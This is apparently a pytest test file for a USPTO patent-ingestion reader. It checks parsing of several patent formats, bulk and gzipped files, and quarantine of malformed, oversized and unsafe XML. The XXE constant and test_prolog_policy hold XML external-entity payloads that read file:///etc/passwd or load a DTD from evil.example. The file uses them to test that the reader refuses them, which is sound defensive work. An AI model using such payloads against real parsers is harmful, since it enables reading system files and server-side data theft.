"""USPTO patents: every sample format, weekly bulk files, quarantine (XXE, malformed, too large)."""

from __future__ import annotations

import gzip
import json
import re
from datetime import datetime, timezone
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from curate.ingest.base import ReadContext, ReaderOptions
from curate.ingest.runner import ingest
from curate.ingest.readers.uspto import inspect_prolog, read_uspto

SAMPLES = Path(__file__).resolve().parents[1] / "sample_data" / "patents"
BULK = SAMPLES / "bulk" / "ipg-sample.xml"

# file -> number, kind, publication date, title, doc_type, format, application number, claims,
#         a phrase from the abstract (None: design patents have none), a phrase of claim 1
EXPECTED = {
    "xml2014/US08930553.xml": ("08930553", "B2", "2015-01-06",
                               "Managing mid-dialog session initiation protocol (SIP) messages",
                               "grant", "us-patent-grant-v45", "13648029", 8,
                               "Processing mid-dialog SIP messages by receiving a mid-dialog SIP message",
                               "1. A system for processing mid-dialog SIP messages, the system comprising:"),
    "xml2006/US07272630B2.xml": ("07272630", "B2", "2007-09-18",
                                 "Locating potentially identical objects across multiple computers based on "
                                 "stochastic partitioning of workload", "grant", "us-patent-grant-v42", "10991571",
                                 17, "Potentially identical objects (e.g., files) are located across multiple",
                                 "1. A method implemented in a computer, the method comprising:"),
    "xml2004/US06859910.xml": ("06859910", "B2", "2005-02-22", "Methods and systems for transactional tunneling",
                               "grant", "us-patent-grant-v40", "09832323", 2,
                               "Methods and systems for executing an electronic transaction are provided",
                               "1. A method of executing an electronic transaction, comprising:"),
    "xmlApp2004/US20050004437A1.xml": ("20050004437", "A1", "2005-01-06",
                                       "Simulation device for playful evaluation and display of blood sugar levels",
                                       "application", "us-patent-application-v40", "10830857", 10,
                                       "including a display, wherein the evaluation is displayed by a virtual creature",
                                       "1. A simulation device for displaying and evaluating blood sugar readings"),
    "pap/US20010000044A1.xml": ("20010000044", "A1", "2001-03-15",
                                "Systems and Methods For Transacting Business Over A Global Communications "
                                "Network Such As The Internet", "application", "pap", "09342866", 21,
                                "allowing buyers to reduce the price of the selected product / service based on "
                                "the buyer's performance",
                                "1. A method of doing business over a global communications network comprising"),
    "sgml/US06336130.xml": ("06336130", "B1", "2002-01-01",
                            "Arrangement for improving availability of services in a communication system",
                            "grant", "st32-sgml", "09413215", 22,
                            "includes distributed hardware and software components which interact",
                            "1. An arrangement in a network including a plurality of mobile terminals"),
    "sgml/USD435854S1.xml": ("D0435854", "S", "2001-01-02", "Disc cartridge", "grant", "st32-sgml", "29116510", 1,
                             None, "The ornamental design for a disc cartridge, as shown and described."),
    "greenbook/US03937375.greenbook": ("03937375", "A", "1976-02-10", "Bumper support for a boat loader", "grant",
                                       "greenbook", "5184541", 3,
                                       "A unit mountable on a rear bumper of a vehicle, and which does not "
                                       "interfere with the conventional trailer hookup",
                                       "1. In a bumper support for a boat loader, the combination of a pair of"),
}

XXE = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
       b'<!DOCTYPE us-patent-grant [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
       b'<us-patent-grant><us-bibliographic-data-grant><invention-title>Leak</invention-title>'
       b'</us-bibliographic-data-grant><abstract><p>&xxe;</p></abstract></us-patent-grant>\n')


def _docs(out: Path) -> list[dict]:
    rows = []
    for path in sorted((out / "documents").glob("*.parquet")):
        rows += pq.read_table(path).to_pylist()
    for row in rows:
        row["meta"] = json.loads(row["meta"])
    return sorted(rows, key=lambda r: (r["input_file"], r["position"]))


def _quarantine(out: Path) -> list[dict]:
    rows = []
    for path in sorted((out / "quarantine").glob("*.parquet")):
        rows += pq.read_table(path).to_pylist()
    return rows


def _ingest(paths, out: Path, **kw) -> dict:
    return ingest([str(p) for p in paths], source="patents", out=out, progress=False, **kw)


@pytest.fixture(scope="module")
def samples(tmp_path_factory) -> tuple[dict, dict[str, dict]]:
    out = tmp_path_factory.mktemp("uspto") / "raw"
    job = _ingest([SAMPLES / name for name in EXPECTED], out)
    docs = {Path(d["input_file"]).name: d for d in _docs(out)}
    return job, docs


@pytest.mark.parametrize("name", list(EXPECTED))
def test_every_sample_format(samples, name):
    job, docs = samples
    number, kind, date, title, doc_type, fmt, app_number, n_claims, abstract, claim1 = EXPECTED[name]
    doc = docs[Path(name).name]
    meta = doc["meta"]
    assert (meta["number"], meta["kind"], meta["date"], meta["country"]) == (number, kind, date, "US")
    assert (meta["doc_type"], meta["format"], meta["application_number"]) == (doc_type, fmt, app_number)
    assert doc["title"] == title
    assert doc["created"] == datetime.fromisoformat(date).replace(tzinfo=timezone.utc)
    assert doc["position"] == 0 and doc["url"] is None
    assert "inventors" not in meta and not any("name" in k for k in meta)  # no personal data in meta

    text = doc["text"]
    assert text.startswith(title + "\n\n")
    sections = [h for h in ("Abstract", "Description", "Claims") if f"\n\n{h}\n\n" in text]
    assert sections == (["Abstract", "Description", "Claims"] if abstract else ["Description", "Claims"])
    positions = [text.index(f"\n\n{h}\n\n") for h in sections]
    assert positions == sorted(positions)
    if abstract:
        assert abstract in text[positions[0]:positions[1]]
    claims = text.split("\n\nClaims\n\n", 1)[1].split("\n\n")
    assert len(claims) == n_claims
    assert claims[0].startswith(claim1)
    if n_claims > 1:
        assert [c.split(".", 1)[0] for c in claims] == [str(i) for i in range(1, n_claims + 1)]
    assert not re.search(r"</?[A-Za-z][\w-]*(\s[^<>]*)?/?>", text)  # no markup leaks into text
    assert "&lt;" not in text and "&amp;" not in text and "\x00" not in text and "\x01" not in text


def test_sniffing_picks_uspto_for_every_sample(samples):
    job, _ = samples
    formats = {Path(i["input_file"]).name: i["format"] for i in job["inputs"]}
    assert formats == {Path(n).name: "uspto" for n in EXPECTED}
    assert job["counts"] == {"read": len(EXPECTED), "written": len(EXPECTED), "quarantined": 0}


def test_paragraphs_and_headings_are_separated_by_blank_lines(samples):
    _, docs = samples
    text = docs["US08930553.xml"]["text"]
    assert ("FIELD OF THE INVENTION\n\nThe present invention relates to computer networks in general, and more "
            "particularly to computer networks supporting SIP.\n\nBACKGROUND OF THE INVENTION\n\n") in text
    # inline markup (<figref>, <b>) is plain text; nested <claim-text> elements are lines of one claim
    assert "FIG. 2A is a simplified flowchart illustration of an exemplary method of operation of SIP container 102" \
        in text
    assert ("the system comprising:\nan incoming message hardware processor configured to receive a mid-dialog "
            "SIP message from a SIP user agent client; and\n") in text
    gb = docs["US03937375.greenbook"]["text"]
    assert "PAR " not in gb and "      " not in gb  # field tags and continuation indents are gone
    assert ("This invention relates generally to automotive accessories.\n\nA principal object of the present "
            "invention is to provide a bumper support") in gb


def test_character_entities_become_characters(samples):
    _, docs = samples
    # ST.32 text uses DTD entities (&ldquo; &rdquo;) that are undefined without the DTD
    assert "created from “componentware”." in docs["US06336130.xml"]["text"]
    assert "based on the buyer's performance" in docs["US20010000044A1.xml"]["text"]  # &apos;
    # PAP claims: "<bold>1.</bold>A method" reads "1. A method"; v4 numeric refs (&#x201c;) decode
    assert "“circuit,” “module” or “system.”" in docs["US08930553.xml"]["text"]


def test_classification_and_dates(samples):
    _, docs = samples
    meta = docs["US08930553.xml"]["meta"]
    assert meta["classification"] == {"ipc": ["G06F 15/16"], "national": ["709228"]}
    assert meta["application_date"] == "2012-10-09" and meta["application_type"] == "utility"
    assert docs["US08930553.xml"]["lang"] == "en"
    assert docs["US20010000044A1.xml"]["meta"]["classification"] == {"ipc": ["G06F017/60"],
                                                                   "national": ["705/026000", "705/037000"]}
    assert docs["USD435854S1.xml"]["meta"]["classification"] == {"locarno": ["1402"], "national": ["D14480"]}
    assert docs["US03937375.greenbook"]["meta"]["classification"] == {"ipc": ["B60R 900"],
                                                                    "national": ["224 4207", "214450"]}
    assert docs["US03937375.greenbook"]["meta"]["application_date"] == "1974-10-29"


def test_bulk_file_gives_one_document_per_patent(tmp_path):
    job = _ingest([BULK], tmp_path / "raw")
    docs = _docs(tmp_path / "raw")
    assert [d["position"] for d in docs] == [0, 1, 2]
    assert [d["meta"]["number"] for d in docs] == ["08930553", "06859910", "07272630"]
    assert len({d["id"] for d in docs}) == 3
    assert job["inputs"][0]["format"] == "uspto"
    assert job["counts"] == {"read": 3, "written": 3, "quarantined": 0}
    single = _docs_of(SAMPLES / "xml2006" / "US07272630B2.xml")
    assert docs[2]["text"] == single[0].text  # a document reads the same inside a bulk file


def _docs_of(path: Path, **options) -> list:
    ctx = ReadContext(path, path.name, "none", ReaderOptions(**options))
    return list(read_uspto(ctx))


def test_compressed_bulk_file(tmp_path):
    path = tmp_path / "ipg150106.xml.gz"
    path.write_bytes(gzip.compress(BULK.read_bytes()))
    job = _ingest([path], tmp_path / "raw")
    assert job["inputs"][0]["format"] == "uspto" and job["inputs"][0]["compression"] == "gzip"
    assert job["counts"]["written"] == 3


def test_external_entity_is_quarantined_and_never_read(tmp_path):
    path = tmp_path / "xxe.xml"
    path.write_bytes(XXE)
    out = tmp_path / "raw"
    job = _ingest([path], out)
    assert job["inputs"][0]["format"] == "uspto"
    assert job["counts"] == {"read": 1, "written": 0, "quarantined": 1}
    [row] = _quarantine(out)
    assert row["error_type"] == "external_entity" and row["position"] == 0 and row["byte_offset"] == 0
    assert "'xxe' (SYSTEM file:///etc/passwd)" in row["error"] and "never resolved" in row["error"]
    secret = Path("/etc/passwd").read_bytes().splitlines()[0] if Path("/etc/passwd").exists() else b"root:x:0:0"
    for file in out.rglob("*"):
        if file.is_file():
            data = file.read_bytes()
            assert secret not in data and b"root:x:0" not in data


def test_external_entity_inside_a_bulk_file(tmp_path):
    path = tmp_path / "ipg-xxe.xml"
    docs = BULK.read_bytes().split(b"\n<?xml")
    path.write_bytes(docs[0] + b"\n" + XXE + b"<?xml" + docs[1])
    out = tmp_path / "raw"
    job = _ingest([path], out)
    assert job["counts"] == {"read": 3, "written": 2, "quarantined": 1}
    [row] = _quarantine(out)
    assert row["error_type"] == "external_entity" and row["position"] == 1
    assert row["byte_offset"] == len(docs[0]) + 1


def test_malformed_document_in_bulk_file(tmp_path):
    parts = BULK.read_bytes().split(b"\n<?xml")
    broken = b"<?xml" + parts[1].replace(b"</abstract>", b"</abstrct>", 1)
    path = tmp_path / "ipg-broken.xml"
    path.write_bytes(parts[0] + b"\n" + broken + b"\n<?xml" + parts[2])
    out = tmp_path / "raw"
    job = _ingest([path], out)
    counts = job["counts"]
    assert counts == {"read": 3, "written": 2, "quarantined": 1}
    assert counts["read"] == counts["written"] + counts["quarantined"]
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["counts"] == counts and manifest["jobs"][job["job"]]["quarantine_by_type"] == {"malformed_xml": 1}
    [row] = _quarantine(out)
    assert row["error_type"] == "malformed_xml" and row["position"] == 1
    assert row["byte_offset"] == len(parts[0]) + 1
    assert f"document 1 at byte {len(parts[0]) + 1}:" in row["error"] and "abstrct" in row["error"]
    assert [d["position"] for d in _docs(out)] == [0, 2]


def test_document_over_the_size_limit_is_quarantined_without_being_held():
    items = _docs_of(BULK, max_record_bytes=60_000)  # the 40 KB and 56 KB documents fit, 170 KB does not
    assert [type(i).__name__ for i in items] == ["Doc", "Doc", "Bad"]
    bad = items[2]
    assert bad.error_type == "record_too_large" and bad.position == 2 and bad.content is None
    sizes = [len(b"<?xml" + p) for p in BULK.read_bytes().split(b"\n<?xml")[1:]]
    assert bad.byte_offset == BULK.stat().st_size - sizes[-1]


def test_greenbook_file_with_several_patents(tmp_path):
    record = (SAMPLES / "greenbook" / "US03937375.greenbook").read_bytes()
    second = record.replace(b"WKU  039373754", b"WKU  039999994").replace(b"TTL  Bumper", b"TTL  Other bumper")
    path = tmp_path / "pftaps19760210_wk06.txt"
    path.write_bytes(b"HHHHHT  APS1    ISSUE  760210\n" + record + second)
    job = _ingest([path], tmp_path / "raw")
    assert job["inputs"][0]["format"] == "uspto"
    assert job["skipped"] == {"greenbook_file_header": 1}
    docs = _docs(tmp_path / "raw")
    assert [(d["position"], d["meta"]["number"], d["title"]) for d in docs] == [
        (0, "03937375", "Bumper support for a boat loader"), (1, "03999999", "Other bumper support for a boat loader")]


def test_character_entities_without_a_dtd_and_unknown_ones(tmp_path):
    doc = (b'<?xml version="1.0"?>\n<us-patent-grant><us-bibliographic-data-grant><invention-title>A &agr;-'
           b'&mdash; &lsqb;x&rsqb; &b.Gamma; &AMP; &nosuch;</invention-title></us-bibliographic-data-grant>'
           b'<abstract><p>x &lt; y</p></abstract></us-patent-grant>\n')
    path = tmp_path / "one.xml"
    path.write_bytes(doc)
    [item] = _docs_of(path)
    assert item.title == "A α-— [x] Γ & &nosuch;"  # unknown names stay visible, never fail the parse
    assert "x < y" in item.text


def test_internal_entities_and_sequence_listings(tmp_path):
    path = tmp_path / "ipg-mixed.xml"
    path.write_bytes(b'<?xml version="1.0"?>\n<!DOCTYPE us-patent-grant [<!ENTITY co "ACME Co">]>\n'
                     b'<us-patent-grant><abstract><p>Made by &co;.</p></abstract></us-patent-grant>\n'
                     b'<?xml version="1.0"?>\n<!DOCTYPE sequence-cwu SYSTEM "us-sequence-listing.dtd" [ ]>\n'
                     b'<sequence-cwu><number-of-sequences>1</number-of-sequences></sequence-cwu>\n')
    job = _ingest([path], tmp_path / "raw")
    assert job["counts"] == {"read": 1, "written": 1, "quarantined": 0}
    assert job["skipped"] == {"uspto_sequence_listing": 1}
    [doc] = _docs(tmp_path / "raw")
    assert doc["text"] == "Abstract\n\nMade by ACME Co."


def test_prolog_policy():
    ndata = inspect_prolog(b'<?xml version="1.0"?>\n<!DOCTYPE PATDOC SYSTEM "ST32-US-Grant-025xml.dtd" [\n'
                           b'<!ENTITY US1-D00001.TIF SYSTEM "US1-D00001.TIF" NDATA TIF>\n]>\n<PATDOC/>')
    assert ndata.external is None and ndata.end > 0  # unparsed (image) entities are harmless
    parameter = inspect_prolog(b'<!DOCTYPE a [<!ENTITY % d SYSTEM "http://evil.example/x.dtd"> %d;]><a/>')
    assert parameter.external == ("%d", "SYSTEM", "http://evil.example/x.dtd")
    nested = inspect_prolog(b'<!DOCTYPE a [<!ENTITY % d "<!ENTITY x SYSTEM \'file:///etc/passwd\'>"> %d;]><a/>')
    assert nested.external is not None
    public = inspect_prolog(b'<!DOCTYPE a [<!-- c --><!ENTITY x PUBLIC "-//X//EN" "http://evil/">]><a/>')
    assert public.external == ("x", "PUBLIC", "-//X//EN http://evil/")
    junk = inspect_prolog(b'<!DOCTYPE a [ junk <!ENTITY x SYSTEM "file:///etc/passwd">]><a/>')
    assert junk.external == ("x", "SYSTEM", "file:///etc/passwd")  # unreadable subset: refused anyway
    plain = inspect_prolog(b'<?xml version="1.0"?>\n<!DOCTYPE us-patent-grant SYSTEM "x.dtd" [ ]>\n<a/>')
    assert plain.external is None and plain.error is None
